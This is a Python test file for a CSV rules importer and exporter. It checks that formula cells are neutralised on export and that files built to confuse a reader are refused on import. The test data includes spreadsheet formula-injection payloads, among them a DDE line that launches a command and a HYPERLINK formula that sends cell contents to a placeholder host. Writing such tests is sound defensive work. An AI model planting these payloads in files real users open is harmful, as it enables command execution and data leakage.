"""Attacks by CSV: formulas that a spreadsheet would run, and files made to confuse a reader."""

import csv
import io
from pathlib import Path

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from domain.mapping import RuleKind
from starters.mappings_csv import RowsRefused, Rule, read_rules, write_rules

STARTS = ("=", "+", "-", "@", "＝", "＋", "－", "＠")
FORMULAS = [
    "=CMD()",
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://x/?"&A1,"click")',
    "＝1+1",
    "A;=1+1",
    "A,=1+1",
    "A|=1+1",
    "A;;-1",
    '"=1+1"',
    '";=1+1;"',
    "'=1+1",
    "''=1+1",
    "A;'=1",
    "'",
    "-",
]
cells = (
    st.text(st.characters(exclude_categories=["C", "Z"], include_characters=" "), min_size=1)
    | st.text(st.sampled_from("=+-@'\",;|A1 ＝"), min_size=1)
    | st.sampled_from(FORMULAS)
).map(str.strip)
rules = st.lists(
    st.builds(
        Rule,
        kind=st.sampled_from(RuleKind),
        key=cells.filter(lambda text: 0 < len(text) <= 200 and text.isprintable()),
        value=cells.filter(lambda text: 0 < len(text) <= 200 and text.isprintable()),
    ),
    unique_by=lambda rule: (rule.kind, rule.key),
    max_size=8,
)


def rule(text: str) -> Rule:
    return Rule(kind=RuleKind.ITEM, key=text, value=text)


@given(rules)
@example([rule(text) for text in FORMULAS])
def test_an_export_is_read_back_unchanged(written: list[Rule]) -> None:
    assert list(read_rules(write_rules(written))) == written


@given(rules, st.sampled_from(",;|\t"))
@example([rule(text) for text in FORMULAS], ";")
def test_no_cell_of_an_export_is_a_formula_however_a_spreadsheet_splits_it(
    written: list[Rule], separator: str
) -> None:
    text = write_rules(written)
    for row in csv.reader(io.StringIO(text, newline=""), delimiter=separator):
        assert [cell for cell in row if cell.lstrip("\t\r\n").startswith(STARTS)] == []


@pytest.mark.parametrize("cell", ["=CMD()", "+1", "-1", "@A", "＝1", "＠A"])
@pytest.mark.parametrize("column", ["key", "value"])
def test_an_import_takes_a_formula_only_when_it_is_marked_as_text(cell: str, column: str) -> None:
    row = {"key": "A", "value": "B", column: cell}
    with pytest.raises(RowsRefused, match=f"the {column} looks like a formula"):
        read_rules(f"kind,key,value\nitem,{row['key']},{row['value']}\n")
    row[column] = f"'{cell}"
    (read,) = read_rules(f"kind,key,value\nitem,{row['key']},{row['value']}\n")
    assert getattr(read, column) == cell


@pytest.mark.parametrize(
    ("text", "fault"),
    [
        ("kind,key,value\nitem,A\x00,B\n", "cannot be seen"),
        ("kind,key,value\nitem,A\u202eB,C\n", "cannot be seen"),
        ("kind,key,value\nitem,A\x1b[31m,C\n", "cannot be seen"),
        ("kind,key,value\nitem,\ufeffA,C\n", "cannot be seen"),
        ('kind,key,value\nitem,"A\nB",C\n', "cannot be seen"),
        ("kind,key,value\nitem," + "A" * 201 + ",C\n", "longer than 200"),
        ("kind,key,value\nitem," + "A" * 200_000 + ",C\n", "this is not CSV"),
        ('kind,key,value\nitem,"' + "A\n" * 100_000 + '",C\n', "this is not CSV"),
        ('kind,key,value\nitem,"A"B,C\n', "this is not CSV"),
        ('kind,key,value\nitem,"A,C\n', "this is not CSV"),
        ("kind\x00,key,value\nitem,A,B\n", "the column 'kind' is missing"),
        ("\x00" * 1000, "is missing"),
        ("<html>", "is missing"),
    ],
    ids=[
        "NUL",
        "bidi override",
        "terminal escape",
        "a byte order mark within",
        "a line feed within",
        "a long field",
        "a huge field",
        "a huge field of many lines",
        "a quote in the middle",
        "a quote never closed",
        "NUL in the header",
        "nothing but NUL",
        "a web page",
    ],
)
def test_a_file_made_to_confuse_is_refused_whole_and_in_words(text: str, fault: str) -> None:
    good = "item,SKU-1,A100\n"
    with pytest.raises(RowsRefused) as refused:
        read_rules(text + good if text.startswith("kind,key") and text.endswith("\n") else text)
    assert any(fault in said for said in refused.value.faults), refused.value.faults
    assert sum(len(said) for said in refused.value.faults) < 1000


@pytest.mark.parametrize(
    "text",
    [
        "kind,key,value\r\nitem,A,B\nitem,C,D\ritem,E,F",
        "\ufeffkind;key;value\ritem;A;B\ritem;C;D\r\n\r\nitem;E;F\n\n",
        "kind,key,value\ritem,A,B\ritem,C,D\ritem,E,F\r",
    ],
    ids=["mixed", "a mark and semicolons", "an old Macintosh's"],
)
def test_line_ends_may_be_mixed(text: str) -> None:
    assert [(one.key, one.value) for one in read_rules(text)] == [
        ("A", "B"),
        ("C", "D"),
        ("E", "F"),
    ]


def test_semicolons_within_the_rows_do_not_make_a_comma_file_another() -> None:
    (read,) = read_rules("kind,key,value\ritem,A;B;C;D;E,F\r")
    assert read.key == "A;B;C;D;E"


def test_a_rule_named_like_a_formula_by_a_shop_goes_through_a_file_unchanged(
    tmp_path: Path,
) -> None:
    file = tmp_path / "rules.csv"
    file.write_text(write_rules([rule(text) for text in FORMULAS]), "utf-8-sig", newline="")
    with file.open(encoding="utf-8", newline="") as opened:
        read = read_rules(opened.read())
    assert [one.key for one in read] == FORMULAS
